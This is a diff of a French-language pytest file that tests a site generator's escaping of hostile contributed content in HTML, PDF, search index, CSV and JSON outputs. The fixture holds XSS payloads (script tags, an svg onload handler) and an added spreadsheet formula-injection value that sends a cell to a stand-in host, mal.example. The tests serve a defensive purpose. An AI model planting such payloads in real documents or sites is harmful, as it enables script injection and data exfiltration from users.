@@ -31,10 +31,13 @@ contributions:
       # Un titre qui casserait la page
       <script>alert(6)</script>
       [lien sûr](https://exemple.org) et <https://exemple.org/auto>.
+      Écrire à <contact@exemple.fr> ou [à l'équipe](mailto:equipe@exemple.fr).
     indicateurs:
       - id: EP1.1
         valeur: "<svg onload=alert(7)>"
         source: "\\"><script>alert(8)</script>"
+      - id: EP1.2
+        valeur: '=HYPERLINK("https://mal.example/?"&A1;"cliquez")'
 """
 
 
@@ -42,7 +45,7 @@ contributions:
 def site_hostile(tmp_path_factory):
     projet = creer_projet(tmp_path_factory.mktemp("hostile"))
     creer_donnees(projet, {"hostile.yaml": HOSTILE}, avec_fiches_livrees=True)
-    sortie = construire(projet)
+    sortie = construire(projet, pdf=True)
     assert sortie.code == 0, sortie.stderr
     return projet / "site"
 
@@ -101,6 +104,43 @@ def test_texte_hostile_visible_comme_texte(site_hostile):
     assert 'href="https://exemple.org"' in html and 'href="https://exemple.org/auto"' in html
     # A contributed heading does not become a page heading.
     assert "<h1" not in html.split("Un titre qui casserait la page")[0].split("Utilité sociale")[-1]
+
+
+def test_liens_acceptes_vivants_partout(site_hostile):
+    """The links the validator accepted are live links: on the page, in the fiche's PDF;
+    the search index holds their text, never markup."""
+    import json
+
+    from pypdf import PdfReader
+
+    html = (site_hostile / "fiches" / "hostile" / "index.html").read_text(encoding="utf-8")
+    assert '<a href="mailto:contact@exemple.fr" rel="nofollow noopener">contact@exemple.fr</a>' in html
+    assert '<a href="mailto:equipe@exemple.fr" rel="nofollow noopener">à l\'équipe</a>' in html
+    pdf = PdfReader(site_hostile / "telechargements" / "fiches" / "hostile.pdf")
+    cibles = {a.get_object()["/A"].get("/URI") for page in pdf.pages for a in page.get("/Annots") or []
+              if a.get_object().get("/A")}
+    assert {"https://exemple.org", "https://exemple.org/auto", "mailto:contact@exemple.fr",
+            "mailto:equipe@exemple.fr"} <= cibles
+    assert all(c is None or c.startswith(("https://", "http://", "mailto:", "/")) for c in cibles), cibles
+    texte = " ".join(p.extract_text() for p in pdf.pages)
+    assert "<script>alert(6)</script>" in texte  # shown, as text
+    index = json.loads((site_hostile / "search" / "search_index.json").read_text(encoding="utf-8"))
+    textes = " ".join(d["text"] for d in index["docs"] if d["location"].startswith("fiches/hostile/"))
+    assert "contact@exemple.fr" in textes
+    assert "<script" not in textes and "<img" not in textes
+    assert "&lt;img src=x onerror=alert(1)&gt;" in textes
+
+
+def test_formule_inerte_dans_le_csv_exacte_dans_le_json(site_hostile):
+    import csv
+    import json
+
+    with open(site_hostile / "donnees" / "fiches.csv", encoding="utf-8-sig", newline="") as fh:
+        valeurs = [r["valeur"] for r in csv.DictReader(fh) if r["fiche"] == "hostile"]
+    assert '\'=HYPERLINK("https://mal.example/?"&A1;"cliquez")' in valeurs
+    lignes = (site_hostile / "donnees" / "fiches.json").read_text(encoding="utf-8").splitlines()
+    fiche = json.loads(next(x for x in lignes if '"id":"hostile"' in x).rstrip(","))
+    assert fiche["contributions"][0]["indicateurs"][1]["valeur"] == '=HYPERLINK("https://mal.example/?"&A1;"cliquez")'
 
 
 def test_titre_hostile_echappe_dans_les_listes(site_hostile):
